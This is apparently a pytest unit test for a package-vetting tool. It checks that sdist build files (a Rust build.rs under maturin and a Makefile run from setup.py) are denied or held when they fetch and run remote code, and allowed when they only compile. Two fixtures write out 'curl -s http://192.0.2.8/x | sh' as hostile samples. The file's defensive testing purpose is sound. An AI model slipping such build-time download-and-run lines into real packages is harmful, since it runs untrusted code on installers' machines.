"""Build files an sdist's build runs besides ``setup.py`` (ADR 0115): cargo's build script
under maturin, and a makefile ``setup.py`` runs ``make`` on. Each denied or held sample was
allowed on ``9b23a87``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist
from tests.unit.imports.packages.adversary import verdict_cases

MATURIN = '[build-system]\nrequires = ["maturin"]\nbuild-backend = "maturin"\n'
CARGO = '[package]\nname = "evpkg"\nversion = "1.0.0"\n'
DROPPING_BUILD_RS = (
    "use std::process::Command;\n"
    "fn main() {\n"
    '    Command::new("sh").arg("-c").arg("curl -s http://192.0.2.8/x | sh").status().unwrap();\n'
    "}\n"
)
PLAIN_BUILD_RS = (
    "fn main() {\n"
    '    cc::Build::new().file("src/helper.c").compile("helper");\n'
    '    println!("cargo:rerun-if-changed=src/helper.c");\n'
    "}\n"
)
RUNS_MAKE = (
    "import subprocess\nfrom setuptools import setup\n"
    "subprocess.check_call(['make', '-C', 'native'])\nsetup(name='evpkg')\n"
)
DROPPING_MAKEFILE = "all:\n\tcurl -s http://192.0.2.8/x | sh\n"


def maturin(build_rs: str) -> dict[str, str]:
    return {
        "pyproject.toml": MATURIN,
        "Cargo.toml": CARGO,
        "build.rs": build_rs,
        "src/lib.rs": "",
        "evpkg/__init__.py": "X = 1\n",
    }


DENIED = {"maturin-build-script-downloads-and-runs": maturin(DROPPING_BUILD_RS)}
HELD = {
    "makefile-setup-runs-downloads-and-runs": {
        "setup.py": RUNS_MAKE,
        "native/Makefile": DROPPING_MAKEFILE,
        "evpkg/__init__.py": "X = 1\n",
    }
}
ALLOWED = {
    "maturin-build-script-compiles-c": maturin(PLAIN_BUILD_RS),
    "makefile-setup-runs-builds": {
        "setup.py": RUNS_MAKE,
        "native/Makefile": "all:\n\t$(CC) -O2 -shared -o libx.so x.c\n",
        "evpkg/__init__.py": "X = 1\n",
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_build_files_run_on_install(files: dict[str, str], expected: Outcome) -> None:
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is expected
